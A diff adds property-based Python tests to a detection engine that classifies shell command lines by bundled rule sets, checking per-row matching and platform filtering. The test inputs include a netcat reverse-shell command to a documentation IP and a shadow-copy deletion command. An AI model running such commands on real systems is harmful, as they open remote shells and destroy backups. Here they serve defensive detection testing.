@@ -8,6 +8,7 @@ from hypothesis import strategies as st
 
 from cmdclf.rules import Rule, RuleSet
 from cmdclf.rules.engine import Engine, match_everywhere
+from cmdclf.rules.platforms import platform_bits
 
 SETS = ["behaviours", "baseline", "injection"]
 EVERYTHING = [rule for name in SETS for rule in RuleSet.bundled(name).rules]
@@ -126,3 +127,33 @@ def test_a_line_of_a_megabyte_is_matched_in_one_pass():
     line = "A" * 1_000_000 + " vssadmin delete shadows /all"
     found = RuleSet.bundled("baseline").names(pa.array([line])).to_pylist()
     assert "win-shadow-delete" in found[0]
+
+
+@settings(max_examples=40, deadline=None)
+@given(
+    st.lists(st.sampled_from(["", "ls", "nc -e /bin/sh 192.0.2.1 1", "whoami /all", "x" * 99, "\u212a"]), max_size=40)
+)
+def test_rows_of_any_length_in_any_order_keep_their_own_matches(lines):
+    array = pa.array(lines, pa.string())
+    alone = {line: ENGINE.match(pa.array([line]))[0].tolist() for line in set(lines)}
+    assert ENGINE.match(array).tolist() == [alone[line] for line in lines]
+
+
+def test_rows_of_other_platforms_are_not_shown_to_re2():
+    rules = [
+        Rule("w", "t", "execution", "foo", ("foo",), platform=("windows",)),
+        Rule("a", "t", "execution", "foo", ("foo",)),
+        Rule("m", "t", "execution", "", ("x",), platform=("macos", "linux")),
+    ]
+    where = platform_bits(pa.array(["windows", "linux", "macos", None, "plan9"]))
+    lines = pa.array(["foo"] * 5)
+    candidates = Engine(rules).candidates(lines, where)
+    assert [(int(key) >> 32, int(key) & 0xFFFF) for key in candidates] == [
+        *((0, row) for row in (0, 3, 4)),
+        *((1, row) for row in range(5)),
+        *((2, row) for row in (1, 2, 3, 4)),
+    ]
+    rows, numbers = Engine(rules).pairs(lines, where)
+    assert list(zip(numbers.tolist(), rows.tolist(), strict=True)) == [
+        (int(key) >> 32, int(key) & 0xFFFF) for key in candidates
+    ]
